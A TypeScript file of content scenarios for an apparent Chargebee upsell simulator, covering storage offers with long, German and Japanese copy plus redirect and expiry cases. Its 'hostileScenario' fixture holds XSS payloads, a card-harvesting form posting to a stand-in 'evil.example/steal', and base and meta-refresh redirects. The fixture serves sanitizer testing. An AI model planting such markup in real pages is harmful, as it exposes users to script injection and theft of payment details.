/**
 * Simulator scenarios for the content stories: the same Chargebee configuration a merchant would
 * set up (audience → play → offer), with the content the story is about. Every one targets
 * `custom.storage_used_percent >= 80`, so `usage.storage` shows it.
 */
import {
  defaultScenario,
  type Scenario,
  type ScenarioOffer,
} from '@upsell-kit/chargebee-simulator';

/** A scenario with a single play showing `offer` to heavy storage users. */
function singleOfferScenario(offer: ScenarioOffer): Scenario {
  return {
    customFields: [{ id: 'storage_used_percent', type: 'number', label: 'Storage used (%)' }],
    audiences: [
      {
        id: 'storage_heavy',
        rule: { field: 'custom.storage_used_percent', operator: '>=', value: 80 },
      },
    ],
    offers: [offer],
    plays: [{ id: 'story_play', audience: 'storage_heavy', offer: offer.id, priority: 10 }],
  };
}

/** A title and description as long as real marketing copy gets, with three options. */
export const longContentScenario = singleOfferScenario({
  id: 'long_copy',
  title:
    '<div class="slate-p">Your workspace is almost out of storage, and your team uploads more every single day</div>',
  description: [
    '<div class="slate-p">You have used <strong>93.7 GB of 100 GB</strong>. When the space runs out, new uploads, ',
    'automatic backups of connected drives and version history for shared documents stop until you ',
    'free up room or add more. Adding storage takes effect immediately, is prorated to your current ',
    'billing period and can be removed at any time from <em>Settings → Billing → Add-ons</em>.</div>',
    '<ul><li>Keep every version of every file for 180 days</li>',
    '<li>Unlimited file size for video and design assets</li>',
    '<li>Priority upload queue for large folders</li></ul>',
    '<div class="slate-p">Questions? Our team answers within one business day: ',
    '<a href="https://example.com/help/storage-add-ons-and-billing-frequently-asked-questions">',
    'https://example.com/help/storage-add-ons-and-billing-frequently-asked-questions</a></div>',
  ].join(''),
  options: [
    {
      id: 'add_100gb',
      label: 'Add 100 GB storage for $5 per month',
      processingType: 'billing_update',
      processingLayout: 'in_app',
    },
    {
      id: 'add_1tb',
      label: 'Add 1 TB storage for $40 per month (save 20%)',
      processingType: 'billing_update',
      processingLayout: 'in_app',
    },
    {
      id: 'upgrade_business',
      label: 'Upgrade the whole team to Business',
      processingType: 'checkout',
      processingLayout: 'full_page',
    },
  ],
});

/** German copy (umlauts, ß, long compounds), shown with the German messages and locale. */
export const germanScenario = singleOfferScenario({
  id: 'speicher_de',
  title: '<div class="slate-p">Ihr Speicherplatz wird knapp</div>',
  description:
    '<div class="slate-p">Sie haben über 80 % Ihres Speichers belegt. Fügen Sie für 5 € im Monat 100 GB hinzu – Dateigrößenbeschränkungen gehören der Vergangenheit an. Größere Übertragungen, schnellere Synchronisierung.</div>',
  options: [
    {
      id: 'speicher_100gb',
      label: '100 GB Speicher hinzufügen',
      processingType: 'billing_update',
      processingLayout: 'in_app',
    },
  ],
});

/** Japanese copy: no spaces to wrap at, different line-breaking rules. */
export const japaneseScenario = singleOfferScenario({
  id: 'storage_ja',
  title: '<div class="slate-p">ストレージの空き容量が少なくなっています</div>',
  description:
    '<div class="slate-p">ストレージの80%以上を使用しています。月額500円で100GBを追加して、すべてのファイルを一か所にまとめましょう。</div>',
  options: [
    {
      id: 'storage_ja_100gb',
      label: '100GBを追加する',
      processingType: 'billing_update',
      processingLayout: 'in_app',
    },
  ],
});

/**
 * Hostile HTML in both content fields, as a compromised or careless Chargebee admin could enter
 * it: scripts, event handlers, `javascript:` and `data:` URLs, style, forms, frames, SVG and
 * MathML, `<base>` and `<meta>`. Each would set `window.__upsellXss` if it ran.
 */
export const hostileScenario = singleOfferScenario({
  id: 'hostile',
  title:
    '<div class="slate-p">Running out of <b>storage</b>?<img src="x" onerror="window.__upsellXss=1"><script>window.__upsellXss=1</script></div>',
  description: [
    '<div class="slate-p" style="position:fixed;inset:0;background:red" onmouseover="window.__upsellXss=1">',
    'Add <strong>100 GB</strong> for <em>$5/month</em>. ',
    '<a href="javascript:window.__upsellXss=1">Claim now</a> · ',
    '<a href="https://example.com/terms" target="_self">Terms</a> · ',
    '<a href="data:text/html,<script>window.__upsellXss=1</script>">Details</a></div>',
    '<form action="https://evil.example/steal"><label for="card">Card number</label><input id="card" name="card"><button>Pay</button></form>',
    '<iframe src="javascript:window.__upsellXss=1"></iframe>',
    '<object data="javascript:window.__upsellXss=1"></object>',
    '<svg onload="window.__upsellXss=1"><circle r="4"/></svg>',
    '<math><mtext><img src=x onerror="window.__upsellXss=1"></mtext></math>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<style>body{display:none}</style>',
    '<ul><li>Bigger uploads</li><li onclick="window.__upsellXss=1">Faster sync</li></ul>',
  ].join(''),
  options: [
    {
      id: 'add_100gb_storage',
      label: 'Add 100 GB storage',
      processingType: 'billing_update',
      processingLayout: 'in_app',
    },
  ],
});

/** An option fulfilled by sending the browser to the merchant's own upgrade page. */
export const urlRedirectScenario = singleOfferScenario({
  id: 'annual_plan',
  title: '<div class="slate-p">Save 20% with annual billing</div>',
  description:
    '<div class="slate-p">Switch to yearly billing on our pricing page and get two months free.</div>',
  options: [
    {
      id: 'see_annual_plans',
      label: 'See annual plans',
      processingType: 'url_redirect',
      processingLayout: 'full_page',
      redirectUrl: 'https://app.example.com/billing/annual?from=upsell',
    },
  ],
});

/** The default scenario with another title for the storage offer (unique names side by side). */
export function storageTitled(title: string): Scenario {
  return {
    ...defaultScenario,
    offers: defaultScenario.offers.map((offer) =>
      offer.id === 'storage_upsell'
        ? { ...offer, title: `<div class="slate-p">${title}</div>` }
        : offer,
    ),
  };
}

/** The default scenario with offers that expire 2 s after they are made (the `expired` reason). */
export const shortLivedScenario: Scenario = { ...defaultScenario, offerTtlSeconds: 2 };
